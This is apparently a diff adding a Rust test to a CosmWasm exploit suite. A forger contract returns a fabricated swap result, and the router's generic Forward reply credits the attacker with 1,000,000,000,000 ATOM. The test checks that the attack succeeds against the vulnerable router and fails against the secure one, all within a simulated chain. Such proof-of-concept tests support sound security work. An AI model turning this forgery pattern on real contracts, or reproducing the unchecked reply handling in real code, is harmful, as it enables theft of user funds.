@@ -0,0 +1,127 @@
+//! Forging a swap result through the generic Forward reply
+
+use anyhow::{ensure, Result as AnyResult};
+use cosmwasm_std::{
+    to_json_binary, Binary, Deps, DepsMut, Empty, Env, MessageInfo, Response, StdResult, Uint128,
+};
+use cw_multi_test::{Contract, ContractWrapper, Executor};
+
+use crate::contracts::unchecked_reply::{
+    execute, instantiate, query, reply, secure, ExecuteMsg, InstantiateMsg, QueryMsg, SwapResult,
+};
+use crate::{mock_dex, ExploitSpec, Harness, ATOM, USD};
+
+pub const SPEC: ExploitSpec = ExploitSpec {
+    example: "unchecked_reply",
+    description: "Forward to an attacker contract credits a fabricated SwapResult",
+    must_succeed: || attack(vulnerable),
+    must_fail: || attack(secure),
+    rejection: "forged swap result was not credited",
+};
+
+fn vulnerable() -> Box<dyn Contract<Empty>> {
+    Box::new(ContractWrapper::new(execute, instantiate, query).with_reply(reply))
+}
+
+fn secure() -> Box<dyn Contract<Empty>> {
+    Box::new(
+        ContractWrapper::new(secure::execute, secure::instantiate, secure::query)
+            .with_reply(secure::reply),
+    )
+}
+
+const FORGED_AMOUNT: u128 = 1_000_000_000_000;
+
+/// Answers any execute with a SwapResult crediting its instantiator
+mod forger {
+    use super::*;
+    use cw_storage_plus::Item;
+
+    const BENEFICIARY: Item<String> = Item::new("beneficiary");
+
+    pub fn instantiate(
+        deps: DepsMut,
+        _env: Env,
+        info: MessageInfo,
+        _msg: Empty,
+    ) -> StdResult<Response> {
+        BENEFICIARY.save(deps.storage, &info.sender.to_string())?;
+        Ok(Response::new())
+    }
+
+    pub fn execute(
+        deps: DepsMut,
+        _env: Env,
+        _info: MessageInfo,
+        _msg: Empty,
+    ) -> StdResult<Response> {
+        Ok(Response::new().set_data(to_json_binary(&SwapResult {
+            recipient: BENEFICIARY.load(deps.storage)?,
+            denom: ATOM.to_string(),
+            amount_out: Uint128::new(FORGED_AMOUNT),
+        })?))
+    }
+
+    pub fn query(_deps: Deps, _env: Env, _msg: Empty) -> StdResult<Binary> {
+        to_json_binary(&Empty {})
+    }
+}
+
+fn attack(code: fn() -> Box<dyn Contract<Empty>>) -> AnyResult<()> {
+    let mut h = Harness::new();
+    let attacker = h.attacker.clone();
+
+    let dex = h.deploy(
+        mock_dex::contract(),
+        &mock_dex::InstantiateMsg {
+            denoms: [ATOM.to_string(), USD.to_string()],
+        },
+        &[],
+        "dex",
+    )?;
+    let router = h.deploy(
+        code(),
+        &InstantiateMsg {
+            dex: dex.to_string(),
+        },
+        &[],
+        "router",
+    )?;
+
+    let forger_code = h.app.store_code(Box::new(ContractWrapper::new(
+        forger::execute,
+        forger::instantiate,
+        forger::query,
+    )));
+    let forger = h.app.instantiate_contract(
+        forger_code,
+        attacker.clone(),
+        &Empty {},
+        &[],
+        "forger",
+        None,
+    )?;
+
+    h.execute(
+        &attacker,
+        &router,
+        &ExecuteMsg::Forward {
+            contract: forger.to_string(),
+            msg: to_json_binary(&Empty {})?,
+        },
+        &[],
+    )?;
+
+    let credited: Uint128 = h.app.wrap().query_wasm_smart(
+        &router,
+        &QueryMsg::Balance {
+            address: attacker.to_string(),
+            denom: ATOM.to_string(),
+        },
+    )?;
+    ensure!(
+        credited.u128() == FORGED_AMOUNT,
+        "forged swap result was not credited"
+    );
+    Ok(())
+}